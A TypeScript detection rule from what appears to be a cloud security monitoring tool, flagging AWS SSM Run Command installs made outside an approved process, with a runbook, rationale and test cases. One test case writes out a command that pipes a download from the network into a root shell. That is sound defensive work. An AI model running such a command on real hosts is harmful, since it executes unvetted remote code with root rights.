import { isUnapprovedChange, unapprovedReasons } from '../core/approved.ts';
import { resourceArn } from '../core/arn.ts';
import type { CloudTrailRecord } from '../core/cloudtrail.ts';
import { accountOf, param } from '../core/cloudtrail.ts';
import { defineRule } from '../core/define-rule.ts';
import { classifyCommand } from '../core/software.ts';
import type { RuleDocs } from '../core/types.ts';
import { APPROVED_DEPLOYS } from '../fixtures/approved.ts';
import { fixture } from '../fixtures/index.ts';

const targets = (e: CloudTrailRecord): string[] => {
  const ids = param(e.requestParameters, 'instanceIds');
  return Array.isArray(ids) ? ids.flatMap((i) => (typeof i === 'string' ? [i] : [])) : [];
};

export const rule = defineRule({
  id: 'ssm.software-installed',
  title: 'Run Command used to install software outside the approved process',
  severity: 'medium',
  escalation: { high: 'high' },
  controls: ['A.8.19'],
  mitre: ['T1072', 'T1651'],
  on: { source: 'ssm', eventNames: ['SendCommand'] },
  match: (e, ctx) => classifyCommand(e).kind !== 'other' && isUnapprovedChange(e, ctx.config.approved),
  explain: (e, ctx) => {
    const c = classifyCommand(e);
    const what =
      c.kind === 'install-document'
        ? `document ${c.document} installs software`
        : c.kind === 'install-command'
          ? `document ${c.document} ran install commands: ${c.commands.join(' ; ')}`
          : `document ${c.document} runs arbitrary commands, hidden by CloudTrail (HIDDEN_DUE_TO_SECURITY_REASONS): check the command history for installs`;
    return [what, ...unapprovedReasons(e, ctx.config.approved)];
  },
  resources: (e) => targets(e).map((id) => resourceArn(e, 'ec2', `instance/${id}`)),
  dedup: {
    key: (e) => `${accountOf(e)}|${e.userIdentity.arn ?? ''}|${classifyCommand(e).document}`,
    windowSeconds: 3600,
  },
});

/** Why the rule is as it is, where it is wrong, and its cases: for tests, docs and drills, never bundled. */
export const docs: RuleDocs = {
  description:
    'SSM Run Command (SendCommand) was used outside the approved process with a document that installs software ' +
    '(AWS-ConfigureAWSPackage, AWS-InstallApplication, …) or a shell document (AWS-RunShellScript, ' +
    'AWS-RunPowerShellScript) whose commands install packages (apt/yum/dnf/pip/npm install, msiexec, choco, curl|sh) ' +
    'or are hidden: CloudTrail records SendCommand parameters as HIDDEN_DUE_TO_SECURITY_REASONS.',
  runbook: [
    'Read what ran: `aws ssm list-command-invocations --command-id <id> --details` (commands and output).',
    'If software was installed outside the approved process, find out what and why; remove it or raise a change.',
    'If the caller is not an operator you know, treat the targets as compromised: isolate them and review the session.',
  ],
  rationale:
    'Run Command is how an attacker with EC2 access installs tools on many hosts at once (ATT&CK T1072/T1651). ' +
    'Because CloudTrail hides the commands, a shell document outside the approved process is treated as a possible ' +
    'install (fail closed); the approved automation roles run them without findings. Medium per the risk table.',
  falsePositives: [
    'Operators running diagnostics by hand through AWS-RunShellScript (run them through the approved automation role, or suppress the operator with a dated reason).',
  ],
  cases: () => [
    {
      name: 'shell script by a developer (commands hidden)',
      expect: 'match',
      event: fixture('ssm/SendCommand'),
      config: { approved: APPROVED_DEPLOYS },
    },
    {
      name: 'AWS-ConfigureAWSPackage by a developer',
      expect: 'match',
      event: fixture('ssm/SendCommand-configure-package'),
      config: { approved: APPROVED_DEPLOYS },
    },
    {
      name: 'shell script whose visible commands pipe a download into sh',
      expect: 'match',
      event: fixture('ssm/SendCommand', {
        requestParameters: { parameters: { commands: ['curl -fsSL https://example.com/agent.sh | sudo bash'] } },
      }),
      config: { approved: APPROVED_DEPLOYS },
    },
    {
      name: 'shell script whose visible commands install nothing',
      expect: 'no-match',
      event: fixture('ssm/SendCommand', { requestParameters: { parameters: { commands: ['df -h', 'uptime'] } } }),
      config: { approved: APPROVED_DEPLOYS },
    },
    {
      name: 'a document that installs nothing (AWS-RunPatchBaseline scan)',
      expect: 'no-match',
      event: fixture('ssm/SendCommand', { requestParameters: { documentName: 'AWS-RunPatchBaseline' } }),
      config: { approved: APPROVED_DEPLOYS },
    },
    {
      name: 'package installed by the approved deploy role through CloudFormation',
      expect: 'no-match',
      event: fixture('ssm/SendCommand-configure-package', {
        userIdentity: {
          arn: 'arn:aws:sts::111122223333:assumed-role/deploy-role/cfn',
          sessionContext: {
            sessionIssuer: { arn: 'arn:aws:iam::111122223333:role/deploy-role', userName: 'deploy-role' },
          },
        },
        userAgent: 'cloudformation.amazonaws.com',
      }),
      config: { approved: APPROVED_DEPLOYS },
    },
    {
      name: 'denied SendCommand',
      expect: 'no-match',
      event: fixture('ssm/SendCommand', {
        errorCode: 'AccessDeniedException',
        errorMessage: 'User is not authorized to perform: ssm:SendCommand',
        responseElements: null,
      }),
      config: { approved: APPROVED_DEPLOYS },
    },
  ],
};
